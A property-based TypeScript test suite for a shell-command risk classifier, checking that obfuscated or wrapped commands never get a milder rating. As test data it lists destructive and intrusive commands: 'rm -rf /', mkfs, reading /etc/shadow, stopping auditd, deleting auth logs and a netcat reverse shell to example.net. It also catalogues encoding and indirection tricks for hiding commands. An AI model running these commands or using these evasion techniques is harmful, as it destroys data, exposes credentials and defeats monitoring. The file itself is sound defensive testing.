// SPDX-License-Identifier: Apache-2.0
import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { assessLine } from './assess-line.ts';
import { RISKS, worse, type Risk } from './verdict.ts';

const COUNT = Number(process.env.HOLDFAST_COUNT ?? 3_000);

/** A program and its words, none of which needs a quote, and what they are alone. */
const COMMANDS: readonly (readonly [readonly [string, ...string[]], Risk])[] = [
  [['ls', '-l', 'src'], 'green'],
  [['git', 'status'], 'green'],
  [['uname', '-a'], 'yellow'],
  [['sudo', 'ls'], 'yellow'],
  [['cat', '/etc/shadow'], 'red'],
  [['useradd', 'eve'], 'red'],
  [['insmod', 'x.ko'], 'red'],
  [['chmod', 'u+s', 'tool'], 'red'],
  [['systemctl', 'stop', 'auditd'], 'red'],
  [['rm', '/var/log/auth.log'], 'red'],
  [['nc', '-e', 'sh', 'example.net', '1'], 'red'],
  [['mkfs.ext4', '/dev/sda1'], 'red'],
  [['rm', '-rf', '/'], 'critical'],
  [['rm', '-r', '-f', '/etc'], 'critical'],
];

const single = (text: string): string => `'${text.replaceAll("'", `'\\''`)}'`;
const double = (text: string): string => `"${text.replaceAll(/["$`\\]/g, '\\$&')}"`;
const hex = (text: string): string => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const octal = (text: string): string => [...text].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Ways of saying a whole line otherwise; each can be put around each. */
const AROUND: Readonly<Record<string, (line: string) => string>> = {
  env: (line) => `env A=1 -u B sh -c ${single(line)}`,
  'sh -c': (line) => `sh -c ${single(line)}`,
  'bash -lc': (line) => `bash -lc ${double(line)}`,
  eval: (line) => `eval ${single(line)}`,
  'sudo sh': (line) => `sudo -n sh -c ${single(line)}`,
  'timeout sh': (line) => `timeout -k 5 10s sh -c ${double(line)}`,
  'nice nohup': (line) => `nice -n 5 nohup sh -c ${single(line)} &`,
  'xargs sh': (line) => `echo x | xargs -n1 sh -c ${single(line)}`,
  'xargs -I': (line) => `echo ${single(line)} | xargs -I{} sh -c '{}'`,
  'find -exec': (line) => `find . -name x -exec sh -c ${single(line)} \\;`,
  substitution: (line) => `echo "$( ${line} )"`,
  backticks: (line) => (/[`\\]/.test(line) ? `echo "$( ${line} )"` : `echo \`${line}\``),
  'process substitution': (line) => `diff <( ${line} ) b`,
  'pipe into sh': (line) => `echo ${single(line)} | sh`,
  'pipe through cat': (line) => `printf '%s\\n' ${single(line)} | cat | bash -s`,
  'here-document': (line) => (line.includes('\n') ? `sh -c ${single(line)}` : `sh <<'END'\n${line}\nEND`),
  'here-string': (line) => `bash <<< ${single(line)}`,
  'base64 into sh': (line) => `echo ${base64(line)} | base64 -d | sh`,
  'base64 into eval': (line) => `eval "$(echo ${base64(line)} | base64 --decode)"`,
  'hex into sh': (line) => `printf '${hex(line)}' | sh`,
  'octal into eval': (line) => `eval $(printf '${octal(line)}')`,
  'openssl into sh': (line) => `echo ${base64(line)} | openssl enc -d -base64 -A | sudo bash`,
  'xxd into sh': (line) => `echo ${Buffer.from(line).toString('hex')} | xxd -r -p | sh`,
  'a file that is run': (line) => `echo ${single(line)} > run.sh; chmod +x run.sh; ./run.sh`,
  'a file that sh reads': (line) => `printf %s ${single(line)} > x; sh x`,
  sourced: (line) => `echo ${single(line)} > x; . ./x`,
  alias: (line) => `alias x=${single(line)}; x`,
  function: (line) => `f() { ${line}\n}; f`,
  'function of words': (line) => `f() { "$@"; }; f sh -c ${single(line)}`,
  'function of code': (line) => `f() { eval "$1"; }; f ${single(line)}`,
  trap: (line) => `trap ${single(line)} EXIT`,
  subshell: (line) => `(${line}\n)`,
  group: (line) => `{ ${line}\n}`,
  list: (line) => `true; ls && false || ${line}\n`,
  branch: (line) => `if true; then :; else ${line}\nfi`,
  loop: (line) => `while read -r x; do ${line}\ndone < list`,
  case: (line) => `case $x in a) ls;; *) ${line}\n;; esac`,
  negated: (line) => `! { ${line}\n}`,
  timed: (line) => `time ${line}`,
  'in the background': (line) => `(${line}\n) & wait`,
  'into a pipe': (line) => `{ ${line}\n} | tee log`,
  redirected: (line) => `{ ${line}\n} > out 2>&1`,
  ssh: (line) => `ssh host ${single(line)}`,
  watch: (line) => `watch -n 2 ${single(line)}`,
  'busybox sh': (line) => `busybox sh -c ${single(line)}`,
  'an option with a command': (line) => `tool --on-start-command=${single(`sh -c ${single(line)}`)}`,
  'python system': (line) => `python3 -c ${single(`import os; os.system(${JSON.stringify(line)})`)}`,
  'python list': (line) => `python3 -c ${single(`import subprocess as s; s.run(["sh", "-c", ${JSON.stringify(line)}])`)}`,
  'perl system': (line) => `perl -e ${single(`system(${JSON.stringify(line)});`)}`,
  'node execSync': (line) => `node -e ${single(`require("child_process").execSync(${JSON.stringify(line)})`)}`,
  'awk system': (line) => `awk ${single(`BEGIN { system(${JSON.stringify(line)}) }`)}`,
  'python from a here-document': (line) => `python3 - <<'CODE'\nimport os\nos.system(${JSON.stringify(line)})\nCODE\n`,
  flock: (line) => `flock -n lock sh -c ${single(line)}`,
  'strace -f': (line) => `strace -f -o out sh -c ${single(line)}`,
};

type Command = readonly [string, ...string[]];
/** Ways of spelling the command itself. */
const SPELLED: Readonly<Record<string, (words: Command) => string>> = {
  plain: (words) => words.join(' '),
  'hex name': ([name, ...rest]) => [`$'${hex(name)}'`, ...rest].join(' '),
  'octal name': ([name, ...rest]) => [`$'${octal(name)}'`, ...rest].join(' '),
  'hex word': (words) => [...words.slice(0, -1), `$'${hex(words.at(-1)!)}'`].join(' '),
  backslash: ([name, ...rest]) => [`${name[0]}\\${name.slice(1)}`, ...rest].join(' '),
  'backslash in front': (words) => `\\${words.join(' ')}`,
  'empty quotes': ([name, ...rest]) => [`${name[0]}''${name.slice(1)}`, ...rest].join(' '),
  quoted: ([name, ...rest]) => [`"${name}"`, ...rest.map(single)].join(' '),
  IFS: (words) => words.join('${IFS}'),
  'IFS without braces': (words) => words.join('$IFS'),
  braces: (words) => `{${words.join(',')}}`,
  'braces for a word': (words) => [...words.slice(0, -1), `{x,${words.at(-1)!}}`].join(' '),
  'braces with quotes': (words) => [...words.slice(0, -1), `{x,'${words.at(-1)!}'}`].join(' '),
  'braces in braces': (words) => [...words.slice(0, -1), `{x,{y,${words.at(-1)!}},z}`].join(' '),
  'behind a hundred words': (words) => `a='${words.slice(0, -1).join(' ')} ${'z '.repeat(100)}${words.at(-1)!}'; $a`,
  'behind a hundred in braces': (words) => [...words.slice(0, -1), `{${'z,'.repeat(100)}${words.at(-1)!}}`].join(' '),
  glob: ([name, ...rest]) => [`/bin/${name[0]}?${name.slice(2)}`, ...rest].join(' '),
  bracket: ([name, ...rest]) => [`/usr/bin/${name[0]}[${name[1]}]${name.slice(2)}`, ...rest].join(' '),
  path: ([name, ...rest]) => [`/usr/bin/${name}`, ...rest].join(' '),
  variable: ([name, ...rest]) => `a=${name}; $a ${rest.join(' ')}`,
  'joined variables': ([name, ...rest]) => `a=${name[0]}; b=${name.slice(1)}; $a$b ${rest.join(' ')}`,
  'whole in a variable': (words) => `a=${single(words.join(' '))}; $a`,
  exported: ([name, ...rest]) => `export a=${name}; "\${a}" ${rest.join(' ')}`,
  appended: ([name, ...rest]) => `a=${name[0]}; a+=${name.slice(1)}; $a ${rest.join(' ')}`,
  default: ([name, ...rest]) => [`\${none:-${name}}`, ...rest].join(' '),
  cut: ([name, ...rest]) => `a=x${name}; \${a:1} ${rest.join(' ')}`,
  array: (words) => `a=(${words.join(' ')}); "\${a[@]}"`,
  echoed: ([name, ...rest]) => [`$(echo ${name})`, ...rest].join(' '),
  'echoed in whole': (words) => `$(echo ${words.join(' ')})`,
  printed: ([name, ...rest]) => [`$(printf '${octal(name)}')`, ...rest].join(' '),
  'printed into a variable': ([name, ...rest]) => `printf -v a %s ${name}; $a ${rest.join(' ')}`,
  loop: ([name, ...rest]) => `for a in ${name}; do $a ${rest.join(' ')}; done`,
  'loop of two': ([name, ...rest]) => `for a in ls ${name}; do $a ${rest.join(' ')}; done`,
  positional: (words) => `set -- ${words.join(' ')}; "$@"`,
  reversed: (words) => `$(echo '${[...words.join(' ')].toReversed().join('')}' | rev)`,
  env: (words) => `env -i A=1 ${words.join(' ')}`,
  command: (words) => `command ${words.join(' ')}`,
  exec: (words) => `exec -a name ${words.join(' ')}`,
  'find -exec': (words) => `find . -exec ${words.join(' ')} +`,
  xargs: (words) => `printf '%s\\n' ${words.slice(1).join(' ')} | xargs ${words[0]}`,
  'xargs with all': (words) => `echo y | xargs -r -n 1 ${words.join(' ')}`,
  nice: (words) => `nice -n 10 ionice -c 3 ${words.join(' ')}`,
  sudo: (words) => `sudo -u root -- ${words.join(' ')}`,
  stdbuf: (words) => `stdbuf -oL timeout 5 ${words.join(' ')}`,
  setsid: (words) => `setsid -f ${words.join(' ')}`,
  assigned: (words) => `A=1 B=2 ${words.join(' ')}`,
  continued: (words) => words.join(' \\\n  '),
};

const risk = (line: string): Risk => assessLine(line).risk;

describe('what a command is, it is however it is said', () => {
  test.each(COMMANDS)('%j alone', (words, expected) => {
    expect(risk(words.join(' '))).toBe(expected);
  });

  test.each(Object.keys(SPELLED))('spelled by %s: no command gets a better verdict', (name) => {
    for (const [words, expected] of COMMANDS) {
      const line = SPELLED[name]!(words);
      expect({ line, lowered: worse(expected, risk(line)) }).toEqual({ line, lowered: false });
    }
  });

  test.each(Object.keys(AROUND))('wrapped in %s: no command gets a better verdict', (name) => {
    for (const [words, expected] of COMMANDS) {
      const line = AROUND[name]!(words.join(' '));
      expect({ line, lowered: worse(expected, risk(line)) }).toEqual({ line, lowered: false });
    }
  });

  test(`spelled once and wrapped up to four times, in ${COUNT} ways: nothing gets a better verdict`, () => {
    const ways = fc.tuple(fc.constantFrom(...COMMANDS), fc.constantFrom(...Object.keys(SPELLED)), fc.array(fc.constantFrom(...Object.keys(AROUND)), { minLength: 1, maxLength: 4 }));
    fc.assert(
      fc.property(ways, ([[words, expected], spelling, around]) => {
        const line = around.reduce((inner, name) => AROUND[name]!(inner), SPELLED[spelling]!(words));
        return !worse(expected, risk(line));
      }),
      { numRuns: COUNT },
    );
  });

  test('a line is as bad as its worst member, in any order', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...COMMANDS), { minLength: 2, maxLength: 5 }), fc.constantFrom('; ', ' && ', ' || ', ' | ', ' & ', '\n'), (members, between) => {
        const worst = members.map(([, one]) => one).reduce((a, b) => (worse(b, a) ? b : a));
        const line = members.map(([words]) => words.join(' ')).join(between);
        return !worse(worst, risk(line));
      }),
      { numRuns: COUNT },
    );
  });

  test('any text gets a verdict, and the same one twice', () => {
    const piece = fc.constantFrom(' ', '\n', ';', '|', '&', '(', ')', '{', '}', '$', '$(', '`', '"', "'", '\\', '<', '<<E', '>', '*', '[', ']', '=', '#', 'rm', '-rf', '/', 'sh', '-c', 'if', 'then', 'fi', 'do', 'done', 'case', 'esac', '!', '~', '${', '{a,b}', "$'", '\\x72', 'x', 'E');
    fc.assert(
      fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 3 })), { maxLength: 40 }), (pieces) => {
        const line = pieces.join('');
        const verdict = assessLine(line);
        for (const { span } of verdict.reasons) if (span.from < 0 || span.to > line.length || span.from > span.to) return false;
        return RISKS.includes(verdict.risk) && JSON.stringify(assessLine(line)) === JSON.stringify(verdict);
      }),
      { numRuns: COUNT },
    );
  });
});
